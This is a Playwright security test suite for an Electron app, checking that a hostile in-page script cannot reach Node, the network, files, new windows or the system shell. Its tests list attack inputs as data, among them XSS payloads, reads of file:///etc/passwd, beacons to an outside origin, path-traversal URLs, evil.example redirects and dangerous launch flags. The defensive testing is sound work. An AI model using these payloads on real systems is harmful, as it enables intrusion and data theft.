import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test as base } from '@playwright/test';
import type { Page } from '@playwright/test';
import { launchStandIn } from './launch.ts';
import type { StandInRun } from './launch.ts';

/*
 * What a page could do that was taken over: a script of a stranger runs where ours does, in the built app. Each test
 * is such a script. Nothing it does may reach Node, the network, another page or the person's files.
 */

interface Elsewhere {
  readonly origin: string;
  /** `GET /path` of everything that arrived, and of every connection that did not get that far. */
  readonly visits: readonly string[];
}

interface Fixtures {
  readonly run: StandInRun;
  readonly page: Page;
  readonly elsewhere: Elsewhere;
  readonly launch: (...args: string[]) => StandInRun;
}

const test = base.extend<Fixtures>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the names of what a fixture needs from here
  launch: async ({}, use) => {
    const userData = await mkdtemp(join(tmpdir(), 'marquee-security-'));
    const runs: StandInRun[] = [];
    await use((...args) => {
      const run = launchStandIn({ userData, args });
      runs.push(run);
      return run;
    });
    await Promise.all(runs.map((run) => run.quit()));
    await rm(userData, { recursive: true, force: true, maxRetries: 10 });
  },
  run: async ({ launch }, use) => use(launch()),
  page: async ({ run }, use) => {
    const page = await run.page();
    await page.getByRole('button', { name: 'Start browsing' }).waitFor();
    await use(page);
    expect(await stands(page, run)).toEqual({ windows: 1, left: [] });
  },
  // eslint-disable-next-line no-empty-pattern -- as above
  elsewhere: async ({}, use) => {
    const visits: string[] = [];
    const server = createServer((request, response) => {
      visits.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
      response.end('<script>parent.hit = 1</script>');
    });
    server.on('upgrade', (request, socket) => {
      visits.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((settle) => server.listen(0, '127.0.0.1', settle));
    const { port } = server.address() as AddressInfo;
    await use({ origin: `http://127.0.0.1:${port}`, visits });
    server.closeAllConnections();
    server.close();
  },
});

/** Waits until what the page began is over: a request that it made after that is decided, and nothing loads. */
async function rests(page: Page, run: StandInRun): Promise<void> {
  await page.evaluate(async () => {
    await new Promise((settle) => setTimeout(settle));
    await fetch('/index.html').catch(() => undefined);
  });
  await expect.poll(async () => (await run.ask('windows')).filter(({ loading }) => loading)).toEqual([]);
}

/** What was decided about windows that a page opened. */
async function openings(run: StandInRun): Promise<unknown[]> {
  return (await run.ask('recorded')).filter(({ call }) => call === 'window.open').map(({ answer }) => answer);
}

/** The page still stands where it stood and can speak; gives the windows, and what would have left the app. */
async function stands(page: Page, run: StandInRun): Promise<{ windows: number; left: unknown[] }> {
  // Asked of the document: a locator would wait for the end of navigations that were refused.
  const text = await page.evaluate(() => document.body.innerText);
  expect(text).toContain('Start browsing');
  const told = await page.evaluate(() =>
    (window as unknown as { marquee: { invoke(...all: unknown[]): Promise<object> } }).marquee.invoke(
      'storage.state',
      {},
      'still-here',
    ),
  );
  expect(told).toMatchObject({ ok: true });
  const left = (await run.ask('recorded')).filter(({ call }) => /^(shell|dialog)\./.test(call));
  return { windows: (await run.ask('windows')).length, left };
}

/** Takes the content security policy away, so that what stands behind it is seen to hold by itself. */
async function withoutPolicy(page: Page): Promise<void> {
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Page.enable');
  await devtools.send('Page.setBypassCSP', { enabled: true });
  // A document keeps the policy that it came with.
  await page.reload();
  await page.getByRole('button', { name: 'Start browsing' }).waitFor();
  const refused = await page.evaluate(() => {
    const script = Object.assign(document.createElement('script'), { textContent: 'window.without = true' });
    document.body.append(script);
    return !('without' in window);
  });
  expect(refused).toBe(false);
}

test('a stranger’s script finds nothing of Node or Electron, and one way through that cannot be widened', async ({
  page,
}) => {
  const found = await page.evaluate(() => {
    const { marquee } = window as unknown as { marquee: Record<string, unknown> };
    const before = marquee['invoke'];
    for (const attempt of [
      () => (marquee['invoke'] = () => 'mine'),
      () => (marquee['more'] = 1),
      () => delete marquee['cancel'],
      () => ((window as unknown as Record<string, unknown>)['marquee'] = {}),
    ]) {
      try {
        attempt();
      } catch {
        // Refused, as it should be.
      }
    }
    const after = (window as unknown as { marquee: Record<string, unknown> }).marquee;
    return {
      node: ['require', 'process', 'module', 'exports', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter(
        (name) => name in window,
      ),
      same: after === marquee && marquee['invoke'] === before && 'cancel' in marquee && !('more' in marquee),
      functions: Object.keys(marquee).filter((name) => typeof marquee[name] === 'function'),
      types: [...new Set(Object.values(marquee).map((value) => typeof value))].sort(),
    };
  });
  expect(found.node).toEqual([]);
  expect(found.same).toBe(true);
  expect(found.functions.sort()).toEqual(['cancel', 'invoke', 'subscribe']);
  // Nothing that could hold more: texts, functions, null.
  expect(found.types.filter((type) => !['function', 'string', 'object'].includes(type))).toEqual([]);

  const channels = await page.evaluate(async () => {
    const { marquee } = window as unknown as {
      marquee: { invoke(name: unknown, input: unknown, id: unknown): Promise<unknown> };
    };
    const answers = [];
    for (const name of ['../cancel', '__proto__', 'catalogue.write', '', 'shell.openExternal', {}, null]) {
      answers.push(
        await Promise.resolve(marquee.invoke(name, {}, 'x')).then(JSON.stringify, () => 'refused'),
      );
    }
    return answers;
  });
  for (const answer of channels) expect(answer).not.toContain('"ok":true');
});

test('an event tells what happened and hands over nothing that could be used', async ({
  run,
  page,
  launch,
}) => {
  await page.evaluate(() => {
    const heard: unknown[][] = [];
    Object.assign(window, { heard });
    (
      window as unknown as { marquee: { subscribe(listener: (...all: unknown[]) => void): void } }
    ).marquee.subscribe((...all) => heard.push(all));
  });
  expect(await launch('marquee://discover').ended).toBe(0);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { heard: unknown[][] }).heard.length))
    .toBeGreaterThan(0);
  const heard = await page.evaluate(() => (window as unknown as { heard: unknown[][] }).heard);
  for (const all of heard) {
    expect(all).toHaveLength(1);
    expect(Object.keys(all[0] as object).sort()).toEqual(['name', 'payload']);
  }
  expect((await run.ask('windows')).length).toBe(1);
});

test('nothing that is written into the page runs, loads or is sent', async ({ run, page, elsewhere }) => {
  const to = elsewhere.origin;
  const refused = await page.evaluate(async (to) => {
    const violated = new Set<string>();
    Object.assign(window, { violated });
    // Chromium lets what its debugger runs make code of strings; what runs after that it does not.
    await new Promise((settle) => setTimeout(settle, 0));
    addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
    const add = (name: string, facts: object, more: Record<string, string> = {}): HTMLElement => {
      const element = Object.assign(document.createElement(name), facts);
      for (const [attribute, value] of Object.entries(more)) element.setAttribute(attribute, value);
      document.body.append(element);
      return element;
    };
    add('script', { textContent: 'window.hit = 1' });
    add('script', { src: `${to}/script` });
    add('script', { src: 'data:text/javascript,window.hit=1' });
    add('script', { src: URL.createObjectURL(new Blob(['window.hit = 1'])) });
    add('div', { innerHTML: '<img src=x onerror="window.hit = 1"><svg onload="window.hit = 1"></svg>' });
    add('a', { href: 'javascript:window.hit=1' }).click();
    add('style', { textContent: `body { background: url(${to}/style) }` });
    add('p', {}, { style: `background: url(${to}/attribute)` });
    add('link', { rel: 'stylesheet', href: `${to}/sheet` });
    add('link', { rel: 'prefetch', href: `${to}/prefetch` });
    add('link', { rel: 'preload', as: 'image', href: `${to}/preload` });
    add('link', { rel: 'preconnect', href: to });
    add('link', { rel: 'modulepreload', href: `${to}/module` });
    add('img', { src: `${to}/picture` });
    add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
    add('video', { src: `${to}/video` });
    add('iframe', { src: `${to}/frame` });
    add('iframe', { srcdoc: '<script>parent.hit = 1</script>' });
    add('iframe', { src: 'data:text/html,<script>parent.hit = 1</script>' });
    add('object', { data: `${to}/object` });
    add('embed', { src: `${to}/embed` });
    add('base', { href: `${to}/` });
    const form = add('form', { action: `${to}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
    add('form', { action: 'javascript:window.hit=1' });
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}/refresh` }),
    );
    const refused: string[] = [];
    const attempt = async (name: string, act: () => unknown): Promise<void> => {
      try {
        await act();
      } catch {
        refused.push(name);
      }
    };
    // A string that is run, spelled so that no rule of ours mistakes the test for its subject.
    await attempt('function', () => Reflect.construct(Function, ['window.hit = 1'])());
    await attempt('timer', () => setTimeout('window.hit = 1' as unknown as () => void, 0));
    await attempt('fetch', () => fetch(`${to}/fetch`));
    await attempt('no-cors', () => fetch(`${to}/no-cors`, { mode: 'no-cors' }));
    await attempt('import', () => import(/* @vite-ignore */ `${to}/import`));
    await attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
    await attempt('own', () => fetch('/index.html'));
    await attempt('file', () => fetch('file:///etc/passwd'));
    await attempt('service worker', () => navigator.serviceWorker.register('/assets/x.js'));
    navigator.sendBeacon(`${to}/beacon`, 'secret');
    new EventSource(`${to}/events`);
    await attempt('socket', () => new WebSocket(`${to.replace('http', 'ws')}/socket`));
    return refused;
  }, to);
  expect(refused).toEqual(
    expect.arrayContaining(['function', 'fetch', 'no-cors', 'import', 'own', 'file', 'service worker']),
  );
  await expect
    .poll(() => page.evaluate(() => [...(window as unknown as { violated: Set<string> }).violated]))
    .toEqual(
      expect.arrayContaining([
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-attr',
        'style-src-elem',
      ]),
    );
  await rests(page, run);
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
  expect(elsewhere.visits).toEqual([]);
});

test('without the policy too the session lets nothing out, and gives no file but those of the page', async ({
  run,
  page,
  elsewhere,
}) => {
  await withoutPolicy(page);
  const to = elsewhere.origin;
  const told = await page.evaluate(async (to) => {
    const reached: string[] = [];
    const attempt = async (name: string, act: () => Promise<unknown>): Promise<void> => {
      try {
        const answer = await act();
        if (answer instanceof Response && !answer.ok) return;
        reached.push(name);
      } catch {
        // Refused.
      }
    };
    for (const address of [
      `${to}/fetch`,
      'https://example.org/',
      'file:///etc/passwd',
      'ftp://127.0.0.1/x',
      '/../package.json',
      '/%2e%2e/package.json',
      '/..%5c..%5cpackage.json',
      '//127.0.0.1/x',
      '/assets/%2e%2e%2f%2e%2e%2fmain/index.js',
      '/index.html?x',
      '/index.html%00.js',
      'media://picture/poster/w342/..%2f..%2fsettings.json',
      'media://evil/poster/w342/a.jpg',
    ]) {
      await attempt(address, () => fetch(address));
      await attempt(`${address} (no-cors)`, async () => {
        const answer = await fetch(address, { mode: 'no-cors' });
        // What is opaque tells nothing; whether it arrived, the other end knows.
        return answer.type === 'opaque' ? Promise.reject(new Error('opaque')) : answer;
      });
    }
    const picture = (src: string): Promise<boolean> =>
      new Promise((settle) => {
        const image = new Image();
        image.onload = () => settle(true);
        image.onerror = () => settle(false);
        image.src = src;
      });
    if (await picture(`${to}/picture`)) reached.push('picture');
    navigator.sendBeacon(`${to}/beacon`, 'secret');
    return reached;
  }, to);
  expect(told).toEqual([]);
  await rests(page, run);
  expect(elsewhere.visits).toEqual([]);
});

test('the window goes nowhere, however it is led', async ({ run, page, elsewhere }) => {
  await withoutPolicy(page);
  const before = page.url();
  for (const to of [
    `${elsewhere.origin}/away`,
    'https://example.org/',
    'https://bundle@evil.example/',
    'app://evil/index.html',
    'app://bundle.evil/index.html',
    'media://picture/poster/w342/a.jpg',
    'file:///etc/passwd',
    'data:text/html,<script>1</script>',
    'marquee://tv/1',
    'ms-msdt:/id',
    'mailto:somebody@evil.example',
  ]) {
    await page.evaluate((to) => {
      const link = Object.assign(document.createElement('a'), { href: to, textContent: 'go' });
      document.body.append(link);
      link.click();
      link.target = '_top';
      link.click();
      link.remove();
      // The stand-in's page is at https, where Chromium itself asks before a form goes to anything less.
      if (!to.startsWith('https:')) return;
      const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
      document.body.append(form);
      form.submit();
      form.remove();
    }, to);
    await page.evaluate((to) => void (location.href = to), to);
    await rests(page, run);
    expect(page.url().split('#')[0], to).toBe(before.split('#')[0]);
  }
  expect(elsewhere.visits).toEqual([]);
  expect((await run.ask('windows')).length).toBe(1);
});

test('no window opens, whatever asks for one, and no frame or webview is filled', async ({
  run,
  page,
  elsewhere,
}) => {
  test.slow();
  await withoutPolicy(page);
  const addresses = ['', 'about:blank', page.url(), `${elsewhere.origin}/popup`, 'https://example.org/'];
  for (const [index, address] of addresses.entries()) {
    for (const [turn, features] of ['', 'popup', 'noopener'].entries()) {
      const popup = await page.evaluateHandle(([to, how]) => window.open(to, '_blank', how), [
        address,
        features,
      ] as const);
      await expect.poll(async () => (await openings(run)).length).toBe(index * 3 + turn + 1);
      await expect.poll(() => popup.evaluate((opened) => opened?.closed ?? true)).toBe(true);
    }
  }
  await expect.poll(() => page.context().pages().length).toBe(1);

  await page.evaluate((to) => {
    for (const facts of [
      { src: `${to}/frame` },
      { src: location.href },
      { src: '/index.html' },
      { srcdoc: '<p>x</p>' },
      { src: 'about:blank' },
      { src: 'data:text/html,x' },
    ]) {
      const frame = Object.assign(document.createElement('iframe'), facts);
      document.body.append(frame);
    }
    const webview = document.createElement('webview');
    webview.setAttribute('src', `${to}/webview`);
    document.body.append(webview);
  }, elsewhere.origin);
  await rests(page, run);
  const framed = await page.evaluate(() => {
    const has = (frame: HTMLIFrameElement): boolean => {
      try {
        return frame.contentWindow !== null && 'marquee' in frame.contentWindow;
      } catch {
        return false;
      }
    };
    const webview = document.querySelector('webview');
    return {
      marquee: [...document.querySelectorAll('iframe')].map(has),
      webview: webview !== null && 'getWebContentsId' in webview,
    };
  });
  expect(framed.marquee).toEqual([false, false, false, false, false, false]);
  expect(framed.webview).toBe(false);
  expect(elsewhere.visits).toEqual([]);
  expect((await openings(run)).filter((answer) => answer !== 'deny')).toEqual([]);
});

test('a link that the service knows goes to the system’s browser, and no other', async ({ launch }) => {
  const run = launch();
  const page = await run.page();
  await page.getByRole('button', { name: 'Start browsing' }).waitFor();
  let known = '';
  // The bundled service has its address once it has started.
  await expect
    .poll(async () => {
      known = await page.evaluate(async () => {
        const { marquee } = window as unknown as {
          marquee: {
            invoke(...all: unknown[]): Promise<{ value: { addresses: { authorisation: string } | null } }>;
          };
        };
        return (await marquee.invoke('app.state', {}, 'one')).value.addresses?.authorisation ?? '';
      });
      return known;
    })
    .toMatch(/^http:\/\/127\.0\.0\.1:\d+/);
  const { host, port } = new URL(known);
  const asked = [
    `http://127.0.0.1:${Number(port) + 1}/x`,
    `https://${host.split(':')[0]}.evil.example/`,
    `http://${host}@evil.example/`,
    `http://me:secret@${host}/x`,
    `https://evil.example/?${known}`,
    'file:///etc/passwd',
    'smb://evil.example/share',
    'ms-msdt:/id',
    'vscode://x',
    `${known}/${'a'.repeat(3_000)}`,
    `${known}/known`,
  ];
  let opened = 0;
  for (const address of asked) {
    // Some Chromium itself refuses, and the page gets nothing.
    if (await page.evaluate((to) => window.open(to) !== null, address)) opened += 1;
    await expect.poll(async () => (await openings(run)).length).toBe(opened);
  }
  await expect
    .poll(async () =>
      (await run.ask('recorded'))
        .filter(({ call }) => call.startsWith('shell.'))
        .map(({ parameters }) => parameters),
    )
    .toEqual([[`${known}/known`]]);
});

test('a second start hands over a link and nothing else, whatever it was started with', async ({
  run,
  page,
  launch,
}) => {
  const before = page.url();
  for (const argument of [
    'marquee://../../etc/passwd',
    'marquee:////evil.example/',
    'marquee://<img src=x onerror=alert(1)>',
    'marquee://tv/1#javascript:alert(1)',
    'javascript:alert(1)',
    'https://evil.example/',
    'file:///etc/passwd',
    '--remote-debugging-port=0',
    '--load-extension=/tmp',
    `marquee://${'a'.repeat(5_000)}`,
    '',
  ]) {
    const second = launch(argument);
    expect(await second.ended, argument).toBe(0);
    expect(page.url(), argument).toBe(before);
  }
  expect((await run.ask('windows')).length).toBe(1);
});
